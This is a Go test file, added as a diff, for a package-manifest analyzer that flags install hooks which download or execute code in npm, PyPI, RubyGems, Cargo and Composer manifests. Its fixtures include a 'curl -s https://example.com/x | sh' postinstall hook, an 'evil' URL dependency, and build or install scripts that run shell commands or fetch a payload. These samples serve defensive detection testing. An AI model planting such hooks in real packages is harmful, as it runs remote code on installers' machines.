@@ -0,0 +1,270 @@
+package manifest
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis"
+)
+
+type manifestTestCase struct {
+	name string
+	// files maps paths in the package to their contents.
+	files map[string]string
+	want  []staticanalysis.ManifestResult
+}
+
+var (
+	download     = []staticanalysis.HookFlag{staticanalysis.HookDownloads}
+	exec         = []staticanalysis.HookFlag{staticanalysis.HookExecutes}
+	downloadExec = []staticanalysis.HookFlag{staticanalysis.HookDownloads, staticanalysis.HookExecutes}
+)
+
+var manifestTestCases = []manifestTestCase{
+	{
+		name: "package.json",
+		files: map[string]string{
+			"package/package.json": `{
+  "name": "@scope/example",
+  "main": "index.js",
+  "bin": "cli.js",
+  "scripts": {
+    "test": "jest",
+    "preinstall": "node setup.js",
+    "postinstall": "curl -s https://example.com/x | sh"
+  },
+  "dependencies": {"lodash": "^4.17.21", "evil": "https://example.com/evil.tgz", "fork": "user/repo#main"},
+  "devDependencies": {"local": "file:../local"},
+  "optionalDependencies": {"git-dep": "git+https://example.com/dep.git"}
+}`,
+			"package/setup.js": `require("child_process").execSync("id")`,
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "package/package.json",
+			Type:     "package.json",
+			Hooks: []staticanalysis.InstallHook{
+				{Name: "preinstall", Command: "node setup.js", Flags: exec},
+				{Name: "postinstall", Command: "curl -s https://example.com/x | sh", Flags: downloadExec},
+			},
+			Dependencies: []staticanalysis.Dependency{
+				{Name: "evil", Version: "https://example.com/evil.tgz", Source: staticanalysis.URLSource},
+				{Name: "fork", Version: "user/repo#main", Source: staticanalysis.GitSource},
+				{Name: "lodash", Version: "^4.17.21", Source: staticanalysis.RegistrySource},
+				{Name: "local", Version: "file:../local", Source: staticanalysis.PathSource, Scope: "dev"},
+				{Name: "git-dep", Version: "git+https://example.com/dep.git", Source: staticanalysis.GitSource, Scope: "optional"},
+			},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "main", Name: "@scope/example", Target: "index.js"},
+				{Kind: "bin", Name: "example", Target: "cli.js"},
+			},
+		}},
+	},
+	{
+		name: "package.json with binding.gyp",
+		files: map[string]string{
+			"package.json": `{"name": "addon", "bin": {"a": "bin/a.js", "b": "bin/b.js"}}`,
+			"binding.gyp":  `{"targets": []}`,
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "package.json",
+			Type:     "package.json",
+			Hooks:    []staticanalysis.InstallHook{{Name: "install", Command: "node-gyp rebuild"}},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "bin", Name: "a", Target: "bin/a.js"},
+				{Kind: "bin", Name: "b", Target: "bin/b.js"},
+			},
+		}},
+	},
+	{
+		name: "setup.py",
+		files: map[string]string{
+			"example-1.0/setup.py": `import subprocess
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        subprocess.call(["sh", "-c", "echo hi"])
+
+
+setup(
+    name="example",
+    install_requires=["requests>=2.0", "pkg @ git+https://example.com/pkg.git", "six; python_version < '3'"],
+    extras_require={"fast": ["ujson"]},
+    dependency_links=["https://example.com/simple/"],
+    cmdclass={"install": PostInstall},
+    entry_points={"console_scripts": ["example = example.cli:main"]},
+    scripts=["bin/example-tool"],
+)
+`,
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "example-1.0/setup.py",
+			Type:     "setup.py",
+			Hooks: []staticanalysis.InstallHook{
+				{Name: "setup.py", Command: "python setup.py", Flags: exec},
+				{Name: "cmdclass:install", Command: "PostInstall", Flags: exec},
+			},
+			Dependencies: []staticanalysis.Dependency{
+				{Name: "requests", Version: ">=2.0", Source: staticanalysis.RegistrySource},
+				{Name: "pkg", Version: "git+https://example.com/pkg.git", Source: staticanalysis.GitSource},
+				{Name: "six", Source: staticanalysis.RegistrySource},
+				{Name: "ujson", Source: staticanalysis.RegistrySource, Scope: "optional"},
+			},
+			Repositories: []string{"https://example.com/simple/"},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "console_script", Name: "example", Target: "example.cli:main"},
+				{Kind: "script", Name: "example-tool", Target: "bin/example-tool"},
+			},
+		}},
+	},
+	{
+		name: "gemspec",
+		files: map[string]string{
+			"example.gemspec": `Gem::Specification.new do |spec|
+  spec.name = "example"
+  spec.bindir = "exe"
+  spec.executables = %w[example]
+  spec.extensions = ["ext/example/extconf.rb"]
+  spec.add_dependency "rake", ">= 12", "< 14"
+  spec.add_development_dependency(%q<rspec>.freeze, ["~> 3.0"])
+end
+`,
+			"ext/example/extconf.rb": "require 'open-uri'\nURI.open('https://example.com/payload')\n",
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "example.gemspec",
+			Type:     "gemspec",
+			Hooks: []staticanalysis.InstallHook{
+				{Name: "extension", Command: "ext/example/extconf.rb", Flags: download},
+			},
+			Dependencies: []staticanalysis.Dependency{
+				{Name: "rake", Version: ">= 12, < 14", Source: staticanalysis.RegistrySource},
+				{Name: "rspec", Version: "~> 3.0", Source: staticanalysis.RegistrySource, Scope: "dev"},
+			},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "executable", Name: "example", Target: "exe/example"},
+			},
+		}},
+	},
+	{
+		name: "Cargo.toml",
+		files: map[string]string{
+			"example-0.1.0/Cargo.toml": `[package]
+name = "example" # the crate name
+version = "0.1.0"
+
+[dependencies]
+serde = { version = "1.0", features = ["derive"] }
+log = "0.4"
+forked = { git = "https://example.com/forked.git", branch = "main" }
+
+[build-dependencies]
+cc = "1"
+
+[target.'cfg(unix)'.dependencies]
+libc = "0.2"
+
+[dev-dependencies.helper]
+path = "../helper"
+
+[[bin]]
+name = "example-cli"
+path = "src/cli.rs"
+`,
+			"example-0.1.0/build.rs": `fn main() { std::process::Command::new("sh").arg("-c").arg("id").status().unwrap(); }`,
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "example-0.1.0/Cargo.toml",
+			Type:     "Cargo.toml",
+			Hooks: []staticanalysis.InstallHook{
+				{Name: "build", Command: "build.rs", Flags: exec},
+			},
+			Dependencies: []staticanalysis.Dependency{
+				{Name: "forked", Version: "https://example.com/forked.git", Source: staticanalysis.GitSource},
+				{Name: "log", Version: "0.4", Source: staticanalysis.RegistrySource},
+				{Name: "serde", Version: "1.0", Source: staticanalysis.RegistrySource},
+				{Name: "helper", Version: "../helper", Source: staticanalysis.PathSource, Scope: "dev"},
+				{Name: "cc", Version: "1", Source: staticanalysis.RegistrySource, Scope: "build"},
+				{Name: "libc", Version: "0.2", Source: staticanalysis.RegistrySource},
+			},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "bin", Name: "example-cli", Target: "src/cli.rs"},
+			},
+		}},
+	},
+	{
+		name: "composer.json",
+		files: map[string]string{
+			"composer.json": `{
+  "name": "vendor/example",
+  "require": {"php": ">=8.0", "ext-json": "*", "monolog/monolog": "^3.0"},
+  "require-dev": {"phpunit/phpunit": "^10"},
+  "repositories": [{"type": "vcs", "url": "https://example.com/repo.git"}],
+  "scripts": {
+    "post-install-cmd": ["@php scripts/install.php", "echo done"],
+    "test": "phpunit"
+  },
+  "bin": ["bin/example"]
+}`,
+			"scripts/install.php": `<?php file_put_contents("/tmp/x", file_get_contents("https://example.com/x"));`,
+		},
+		want: []staticanalysis.ManifestResult{{
+			Filename: "composer.json",
+			Type:     "composer.json",
+			Hooks: []staticanalysis.InstallHook{
+				{Name: "post-install-cmd", Command: "@php scripts/install.php", Flags: download},
+				{Name: "post-install-cmd", Command: "echo done"},
+			},
+			Dependencies: []staticanalysis.Dependency{
+				{Name: "monolog/monolog", Version: "^3.0", Source: staticanalysis.RegistrySource},
+				{Name: "phpunit/phpunit", Version: "^10", Source: staticanalysis.RegistrySource, Scope: "dev"},
+			},
+			Repositories: []string{"https://example.com/repo.git"},
+			EntryPoints: []staticanalysis.EntryPoint{
+				{Kind: "bin", Name: "example", Target: "bin/example"},
+			},
+		}},
+	},
+	{
+		name: "invalid manifest",
+		files: map[string]string{
+			"package.json": `{"name": `,
+			"index.js":     `console.log("hi")`,
+		},
+		want: []staticanalysis.ManifestResult{},
+	},
+}
+
+func TestAnalyze(t *testing.T) {
+	for _, tt := range manifestTestCases {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			var paths []string
+			for name, contents := range tt.files {
+				path := filepath.Join(dir, filepath.FromSlash(name))
+				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(path, []byte(contents), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				paths = append(paths, path)
+			}
+
+			pathInArchive := func(path string) string {
+				return filepath.ToSlash(strings.TrimPrefix(path, dir+string(os.PathSeparator)))
+			}
+			got := Analyze(context.Background(), paths, pathInArchive)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Analyze() =\n%+v\nwant\n%+v", got, tt.want)
+			}
+		})
+	}
+}